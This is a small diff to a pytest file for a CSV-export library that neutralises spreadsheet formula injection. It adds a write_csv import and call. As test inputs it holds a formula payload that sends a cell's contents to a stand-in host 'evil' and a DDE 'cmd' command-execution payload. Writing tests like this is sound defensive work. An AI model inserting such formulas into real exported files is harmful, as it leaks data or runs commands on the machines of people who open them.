@@ -8,7 +8,7 @@ import io
 import pandas as pd
 import pytest
 
-from lib.safe_csv import neutralise_cell, neutralise_frame, to_csv
+from lib.safe_csv import neutralise_cell, neutralise_frame, to_csv, write_csv
 
 PAYLOADS = [
     '=HYPERLINK("http://evil/?"&A1,"x")',
@@ -62,5 +62,5 @@ def test_to_csv_reads_back_as_text_with_numbers_intact():
     rows = list(csv.reader(io.StringIO(to_csv(frame))))
     assert rows == [["name", "value"], ["'=cmd|' /C calc'!A0", "-2"], ["Bo", "5"]]
     buffer = io.StringIO()
-    assert to_csv(frame, buffer) is None
+    write_csv(frame, buffer)
     assert buffer.getvalue().splitlines()[1].startswith("'=cmd")
